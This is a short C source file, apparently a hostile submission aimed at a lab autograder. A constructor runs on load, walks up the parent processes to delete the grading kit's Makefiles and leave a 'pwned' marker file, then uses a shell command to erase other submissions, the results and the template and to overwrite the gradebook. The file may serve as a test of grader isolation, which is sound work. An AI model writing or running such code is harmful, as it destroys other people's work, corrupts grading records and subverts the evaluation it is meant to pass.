
/* hostile: looks for the kit through its parent processes' folders and deletes its Makefile, leaves a file
 * there, deletes the other submissions' copies, the results and the template, overwrites the gradebook;
 * then lets its own grading go on */
#include <stdio.h>
#include <stdlib.h>
#include <unistd.h>
__attribute__((constructor)) static void hostile_vandal(void)
{
    int pid = (int)getppid();
    for (int hop = 0; hop < 8 && pid > 1; hop++) {
        char link[64], dir[4096], path[4200];
        snprintf(link, sizeof link, "/proc/%d/cwd", pid);
        ssize_t n = readlink(link, dir, sizeof dir - 1);
        if (n > 0) {
            dir[n] = 0;
            snprintf(path, sizeof path, "%s/Makefile", dir);
            unlink(path);
            snprintf(path, sizeof path, "%s/xferlab-pwned", dir);
            FILE *o = fopen(path, "w");
            if (o)
                fclose(o);
        }
        snprintf(link, sizeof link, "/proc/%d/stat", pid);
        FILE *st = fopen(link, "r");
        int parent = 0;
        if (!st || fscanf(st, "%*d %*s %*c %d", &parent) != 1)
            parent = 0;
        if (st)
            fclose(st);
        pid = parent;
    }
    if (system("me=$(basename \"$(dirname \"$PWD\")\"); for d in ../../../work/*; do [ \"${d##*/}\" = \"$me\" ] || "
               "rm -rf \"$d\"/*; done; rm -rf ../../../results/* ../../../.kit/* 2>/dev/null; "
               "echo pwned > ../../../gradebook.csv") != 0) {
    }
}
